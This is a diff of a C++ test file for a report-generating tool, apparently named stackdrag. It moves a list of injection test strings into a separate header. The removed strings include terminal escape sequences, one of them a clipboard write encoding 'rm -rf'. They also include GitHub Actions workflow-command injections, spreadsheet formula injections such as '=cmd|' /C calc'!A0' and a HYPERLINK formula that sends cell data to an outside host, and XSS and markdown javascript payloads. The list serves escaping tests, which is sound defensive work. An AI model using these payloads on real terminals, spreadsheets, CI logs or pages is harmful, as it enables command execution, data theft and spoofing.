@@ -7,6 +7,7 @@
 #include <fmt/format.h>
 #include <nlohmann/json.hpp>
 
+#include "attacks.h"
 #include "catch.h"
 #include "report/repository_path.h"
 #include "stackdrag/baseline.h"
@@ -21,67 +22,6 @@ using nlohmann::json;
 namespace {
 
 const std::vector<std::string> ci_formats{"sarif", "junit", "github", "gitlab", "csv", "prometheus"};
-
-/// Texts that try to act in a terminal, a log, a browser, a spreadsheet, a table, a mention or a metric, as YAML writes them.
-const std::vector<std::string> attacks{
-    R"(\e[2J\e[Hscore 100)",
-    R"(\e[1A\e[2Kscore 100)",
-    R"(\e]8;;http://evil\e\\ok\e]8;;\e\\)",
-    R"(\e]52;c;cm0gLXJm\a)",
-    R"(\e]0;title\a)",
-    R"(\x9b2J\x9d0;t\x90q)",
-    R"(\r\b\b)",
-    R"(x\0y)",
-    R"(\x7f\x85)",
-    R"(a\tb\nc)",
-    R"(\u202Egpj.exe)",
-    R"(\u2066x\u2069\u200f\u061c)",
-    R"(\u2028::error::x\u2029)",
-    R"(\uFEFF\u200b\u2060)",
-    R"(\U000E0041)",
-    "::error::x",
-    "::stop-commands::x",
-    "::add-mask::a",
-    "x ##[add-matcher]f",
-    R"(##\u200d[add-matcher]f)",
-    "%0A::error::x",
-    "%0D%0A%25",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1)",
-    "-2+3",
-    "+1",
-    R"(  =1)",
-    R"(\u00a0\u3000\uFF1Dcmd)",
-    R"(\uFF0B1)",
-    R"(\uFF201)",
-    R"(\t=1)",
-    R"(=HYPERLINK(\"http://e/?\"&A1,\"x\"))",
-    R"(\",=1,\")",
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    R"(\" onmouseover=\"x)",
-    "]]>",
-    "<![CDATA[",
-    "&#27;&amp;",
-    "<!-- x -->",
-    "[x](javascript:alert(1))",
-    "![](https://evil/?id)",
-    "[x](1)",
-    "{0} {{1}}",
-    R"(\\[x\\](1))",
-    "a|b",
-    "``` ` ``",
-    "@org/team",
-    "#1 !5 GH-1",
-    "https://evil.example",
-    "$x$ :smile:",
-    R"(x\"} 1\nfake_metric 99)",
-    R"(x\\\"} 1)",
-    "   ",
-    "other",
-    "unowned",
-    "日本語 é 👩‍💻",
-};
 
 /// Names of files that mean something to somebody: to a URI, a shell, a spreadsheet, a log or a repository.
 const std::vector<std::string> file_names{
